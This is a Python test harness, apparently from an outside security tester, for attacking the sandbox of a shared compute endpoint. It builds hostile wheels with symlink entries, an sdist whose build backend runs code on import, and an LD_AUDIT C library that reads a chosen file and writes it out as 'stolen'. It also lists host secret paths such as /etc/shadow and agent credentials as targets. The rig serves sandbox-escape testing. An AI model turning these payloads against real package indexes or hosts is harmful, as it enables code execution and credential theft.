"""A real shared endpoint to attack: Mosquitto + in-process hub + one agent process (as root or
as uid 65534), owned by the mesh's user ("demo", user A) and shared with "bob" (B) and "carol" (C).

Written by an outside tester from the docs and the product's source only (never tests/).
Everything a sandboxed task runs is Python source passed as an argument to one tiny runner
function, so nothing of this package needs to be importable on the endpoint.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

from cloud_hub.client import Client, Executor
from cloud_hub.localmesh import AgentProcess, LocalMesh

REPO = Path(__file__).resolve().parents[2]
VENV = REPO / ".venv"
SITE = VENV / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
SYS_PY311 = "/usr/bin/python3.11"
NOBODY = 65534

# ---------------------------------------------------------------------------------------------
# the one function that travels: defined in a "__main__" namespace so cloudpickle ships it by value

_RUNNER_SRC = '''
def oa_run(src, *args):
    ns = {"__name__": "oa_attack"}
    exec(compile(src, "<attack>", "exec"), ns)
    return ns["main"](*args)
'''


def runner() -> Any:
    ns: dict[str, Any] = {"__name__": "__main__"}
    exec(_RUNNER_SRC, ns)
    return ns["oa_run"]


RUN = runner()


def runner_variant(tag: str) -> Any:
    """The runner with a docstring of its own: another function body, so another function id."""
    ns: dict[str, Any] = {"__name__": "__main__"}
    exec(_RUNNER_SRC.replace("def oa_run(src, *args):\n", f"def oa_run(src, *args):\n    {tag!r}\n"), ns)
    return ns["oa_run"]


# ---------------------------------------------------------------------------------------------
# wheels and sdists an attacker would publish to the endpoint's index / find_links


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def build_wheel(dest: Path, name: str, version: str, files: dict[str, bytes], *, symlinks: dict[str, str] | None = None,
                raw_record: bool = True) -> Path:
    """A minimal wheel (METADATA, WHEEL, RECORD) holding ``files``; ``symlinks`` are zip entries
    with a symlink's mode bits (name -> target), as a hostile wheel could carry."""
    dist = f"{name}-{version}.dist-info"
    meta = {
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: outsider\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    path = dest / f"{name}-{version}-py3-none-any.whl"
    rec = []
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, target in (symlinks or {}).items():  # first: an extractor that follows it writes the files below through it
            info = zipfile.ZipInfo(n)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            z.writestr(info, target)
            rec.append(_record_line(n, target.encode()))
        for n, data in {**files, **meta}.items():
            z.writestr(n, data)
            rec.append(_record_line(n, data))
        rec.append(f"{dist}/RECORD,,")
        z.writestr(f"{dist}/RECORD", "\n".join(rec) + "\n")
    path.chmod(0o644)
    return path


def build_sdist_with_backend(dest: Path, name: str, version: str, marker: Path) -> Path:
    """An sdist whose in-tree build backend (no build requirements at all) writes ``marker`` the
    moment it is imported: if anything runs its build backend, the marker shows it."""
    backend = (
        "import os, sys\n"
        f"open({str(marker)!r}, 'a').write(f'backend ran uid={{os.getuid()}} pid={{os.getpid()}} argv={{sys.argv}}\\n')\n"
        "def get_requires_for_build_wheel(config_settings=None): return []\n"
        "def prepare_metadata_for_build_wheel(d, config_settings=None): raise RuntimeError('no')\n"
        "def build_wheel(d, config_settings=None, metadata_directory=None): raise RuntimeError('no')\n"
        "def build_sdist(d, config_settings=None): raise RuntimeError('no')\n"
    )
    pyproject = (
        "[build-system]\nrequires = []\nbuild-backend = \"oabackend\"\nbackend-path = [\".\"]\n"
        f"[project]\nname = \"{name}\"\nversion = \"{version}\"\n"
    )
    setup_py = f"open({str(marker)!r}, 'a').write('setup.py ran\\n')\n"
    pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    path = dest / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as t:
        for n, data in {"pyproject.toml": pyproject, "oabackend.py": backend, "setup.py": setup_py, "PKG-INFO": pkg_info}.items():
            b = data.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{n}")
            info.size = len(b)
            info.mode = 0o644
            t.addfile(info, io.BytesIO(b))
    path.chmod(0o644)
    return path


AUDIT_C = r"""
#define _GNU_SOURCE
#include <link.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
unsigned int la_version(unsigned int v) { return LAV_CURRENT; }
__attribute__((constructor)) static void oa_pwn(void) {
    const char *out = getenv("OA_MARK");
    if (!out) return;
    int fd = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd < 0) return;
    char buf[8192]; int n;
    char exe[512] = {0}; readlink("/proc/self/exe", exe, sizeof exe - 1);
    n = snprintf(buf, sizeof buf, "host-side code ran: uid=%d euid=%d pid=%d ppid=%d exe=%s\n",
                 getuid(), geteuid(), getpid(), getppid(), exe);
    write(fd, buf, n);
    /* prove reach: the agent's command line (its config path) from its parent's /proc entry */
    char p[64]; snprintf(p, sizeof p, "/proc/%d/cmdline", getppid());
    int c = open(p, O_RDONLY);
    if (c >= 0) { n = read(c, buf, sizeof buf - 1); close(c);
        for (int i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
        write(fd, "parent cmdline: ", 16); write(fd, buf, n); write(fd, "\n", 1); }
    const char *steal = getenv("OA_STEAL");
    if (steal) { int s = open(steal, O_RDONLY);
        if (s >= 0) { n = read(s, buf, sizeof buf - 1); close(s);
            write(fd, "stolen: ", 8); write(fd, buf, n > 0 ? n : 0); write(fd, "\n", 1); }
        else { write(fd, "steal failed\n", 13); } }
    close(fd);
}
"""


def compile_audit_lib(dest: Path) -> Path | None:
    """The LD_AUDIT library an attacker ships in a wheel; None without a C compiler."""
    cc = shutil.which("gcc") or shutil.which("cc")
    if cc is None:
        return None
    src = dest / "oaaudit.c"
    src.write_text(AUDIT_C)
    out = dest / "liboaaudit.so"
    subprocess.run([cc, "-shared", "-fPIC", "-O2", "-o", str(out), str(src)], check=True, capture_output=True, timeout=60)
    return out


# ---------------------------------------------------------------------------------------------
# the mesh


class NobodyAgent(AgentProcess):
    """The agent as uid/gid 65534 (setpriv), with the system's python3.11 and the project's venv on PYTHONPATH."""

    def start(self) -> "NobodyAgent":
        env = {"PATH": f"{VENV}/bin:/usr/local/bin:/usr/bin:/bin", "PYTHONPATH": f"{REPO}:{SITE}", "HOME": "/tmp",
               "PYTHONUNBUFFERED": "1", "LANG": "C.UTF-8"}
        log = open(self.log_path, "ab")
        self.proc = subprocess.Popen(
            ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", SYS_PY311, "-m", "mesh_agent.cli", "start",
             "--config", str(self.config_path)],
            stdout=log, stderr=subprocess.STDOUT, env=env, start_new_session=True, cwd="/",
        )
        log.close()
        return self


class RootAgent(AgentProcess):
    """The agent as root, optionally with extra PATH entries first (a fake bwrap)."""

    path_prefix: str | None = None

    def start(self) -> "RootAgent":
        env = dict(os.environ, PYTHONUNBUFFERED="1")
        if self.path_prefix:
            env["PATH"] = f"{self.path_prefix}:{env.get('PATH', '/usr/bin:/bin')}"
        log = open(self.log_path, "ab")
        self.proc = subprocess.Popen([sys.executable, "-m", "mesh_agent.cli", "start", "--config", str(self.config_path)],
                                     stdout=log, stderr=subprocess.STDOUT, env=env, start_new_session=True)
        log.close()
        return self


def make_token(db: Path, user: str) -> str:
    out = subprocess.run([sys.executable, "-m", "cloud_hub.cli", "token", "create", "--user", user, "--db", str(db)],
                         capture_output=True, text=True, timeout=60, check=True)
    return out.stdout.strip().splitlines()[-1]


def _chown_tree(path: Path, uid: int) -> None:
    for root, dirs, files in os.walk(path):
        os.chown(root, uid, uid)
        for n in dirs + files:
            with contextlib.suppress(FileNotFoundError):
                os.lchown(os.path.join(root, n), uid, uid)


class SharedEndpoint:
    """One mesh, one shared agent. ``mode``: "root" or "nobody"."""

    def __init__(self, root: Path, mode: str, *, workers: int = 3, task_timeout: float = 60, memory_limit_mb: int = 256) -> None:
        self.root = root
        self.mode = mode
        root.mkdir(parents=True, exist_ok=True)
        os.chmod(root, 0o755)
        self.markers = root / "markers"  # host paths a successful escape writes to
        self.markers.mkdir(exist_ok=True)
        os.chmod(self.markers, 0o777)
        self.wheels = root / "wheels"
        self.wheels.mkdir(exist_ok=True)
        os.chmod(self.wheels, 0o755)
        self.workers, self.task_timeout, self.memory_limit_mb = workers, task_timeout, memory_limit_mb
        self.mesh: LocalMesh | None = None
        self.agent: AgentProcess | None = None
        self.extra_agents: list[AgentProcess] = []
        self.tokens: dict[str, str] = {}
        self.clients: dict[str, Client] = {}
        self.executors: dict[str, Executor] = {}

    # -- set-up ----------------------------------------------------------------------------
    def env_settings(self) -> dict[str, Any]:
        return {"find_links": [str(self.wheels)], "no_index": True, "keep_warm_s": 30, "sandbox_tmp_mb": 64,
                "sandbox_nproc": 256, "disk_budget_mb": 2048}

    def start(self) -> "SharedEndpoint":
        self.mesh = LocalMesh(self.root / "mesh", heartbeat_s=0.5, lost_after_s=6.0)
        os.chmod(self.root / "mesh", 0o755)
        self.mesh.start()
        self.agent = self._add_agent("shared", NobodyAgent if self.mode == "nobody" else RootAgent)
        self.agent.start()
        self.mesh.wait_online(self.agent, timeout=60)
        self.tokens["demo"] = self.mesh.token
        for user in ("bob", "carol"):
            self.tokens[user] = make_token(self.hub_db, user)
            self.mesh.client.share_endpoint(self.ep, user)
        for user, tok in self.tokens.items():
            self.clients[user] = self.mesh.client if user == "demo" else Client(self.mesh.url, tok)
        return self

    def _add_agent(self, name: str, cls: type, **extra: Any) -> AgentProcess:
        assert self.mesh is not None
        a = self.mesh.add_agent(name, start=False, workers=self.workers, task_timeout=self.task_timeout,
                                memory_limit_mb=self.memory_limit_mb, environments=self.env_settings(), **extra)
        agent = cls(a.cfg, a.config_path, a.log_path)
        self.mesh.agents[self.mesh.agents.index(a)] = agent
        if cls is NobodyAgent:
            agents_dir = a.config_path.parent
            os.chmod(agents_dir, 0o755)
            Path(a.cfg.data_dir).mkdir(parents=True, exist_ok=True)
            os.chmod(a.cfg.data_dir, 0o700)
            _chown_tree(Path(a.cfg.data_dir), NOBODY)
            for p in (a.config_path, a.cfg.credentials_file):
                os.chown(p, NOBODY, NOBODY)
            _chown_tree(self.wheels, 0)
        return agent

    def add_broken_agent(self, fake_bin: Path) -> AgentProcess:
        """A second root agent whose PATH finds a bubblewrap that cannot start."""
        agent = self._add_agent("broken", RootAgent)
        assert isinstance(agent, RootAgent)
        agent.path_prefix = str(fake_bin)
        agent.start()
        self.extra_agents.append(agent)
        assert self.mesh is not None
        self.mesh.wait_online(agent, timeout=60)
        for user in ("bob", "carol"):
            self.mesh.client.share_endpoint(agent.endpoint_id, user)
        return agent

    def stop(self) -> None:
        for ex in self.executors.values():
            with contextlib.suppress(Exception):
                ex.shutdown(wait=False, cancel_futures=True)
        for c in self.clients.values():
            with contextlib.suppress(Exception):
                c.close()
        if self.mesh is not None:
            self.mesh.stop()

    # -- facts an attacker would want ---------------------------------------------------------
    @property
    def ep(self) -> str:
        assert self.agent is not None
        return self.agent.endpoint_id

    @property
    def hub_db(self) -> Path:
        return self.root / "mesh" / "hub.sqlite3"

    @property
    def data_dir(self) -> Path:
        assert self.agent is not None
        return Path(self.agent.cfg.data_dir)

    def host_secrets(self) -> dict[str, Path]:
        assert self.agent is not None and self.mesh is not None
        paths = {
            "hub_db": self.hub_db,
            "agent_config": self.agent.config_path,
            "agent_credentials": Path(self.agent.cfg.credentials_file),
            "agent_data_dir": self.data_dir,
            "agent_queue": self.data_dir / "queue.sqlite3",
            "agent_log": self.agent.log_path,
            "agent_env_index": self.data_dir / "envs" / "index.json",
            "broker_dir": self.root / "mesh" / "broker",
            "mesh_root": self.root,
            "checkout_tests": REPO / "tests",
            "checkout_git": REPO / ".git",
            "root_home_bashrc": Path("/root/.bashrc"),
            "etc_passwd": Path("/etc/passwd"),
            "etc_shadow": Path("/etc/shadow"),
            "etc_hostname": Path("/etc/hostname"),
            "home": Path("/home"),
            "var": Path("/var"),
            "srv": Path("/srv"),
            "run": Path("/run"),
            "mnt": Path("/mnt"),
            "media": Path("/media"),
        }
        # A directory on the way to the agent's own code (a checkout under /var/tmp or /home, say) is
        # recreated in the sandbox as the path to that code and nothing else (docs/environments.md):
        # it is not a host directory in sight.
        ancestors = {str(p) for p in [*REPO.parents, *VENV.resolve().parents]}
        return {k: v for k, v in paths.items() if not (str(v) in ancestors and v.is_dir())}

    def credentials(self) -> dict[str, Any]:
        assert self.agent is not None
        return json.loads(Path(self.agent.cfg.credentials_file).read_text())

    def agent_log(self) -> str:
        assert self.agent is not None
        return self.agent.log_path.read_text(errors="replace")

    def agent_alive(self) -> bool:
        return self.agent is not None and self.agent.alive()

    # -- running things -----------------------------------------------------------------------
    def executor(self, user: str, endpoint: str | None = None) -> Executor:
        key = f"{user}:{endpoint or self.ep}"
        ex = self.executors.get(key)
        if ex is None:
            ex = self.executors[key] = Executor(self.clients[user], endpoint_id=endpoint or self.ep)
        return ex

    def submit(self, user: str, src: str, *args: Any, environment: dict[str, Any] | None = None, endpoint: str | None = None):
        ex = self.executor(user, endpoint)
        if environment is not None:
            return ex.submit(RUN, src, *args, environment=environment)
        return ex.submit(RUN, src, *args)

    def run(self, user: str, src: str, *args: Any, environment: dict[str, Any] | None = None, timeout: float = 120,
            endpoint: str | None = None) -> Any:
        return self.submit(user, src, *args, environment=environment, endpoint=endpoint).result(timeout=timeout)

    def owner_still_served(self, timeout: float = 90) -> bool:
        """The owner's own (unsandboxed) task completes on the shared endpoint."""
        return self.run("demo", "def main(x):\n    return x * 2\n", 21, timeout=timeout) == 42


def wait_for(pred, timeout: float, step: float = 0.2) -> bool:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if pred():
            return True
        time.sleep(step)
    return pred()


def nobody_processes() -> list[int]:
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            with contextlib.suppress(OSError):
                if os.stat(f"/proc/{p}").st_uid == NOBODY:
                    out.append(int(p))
    return out
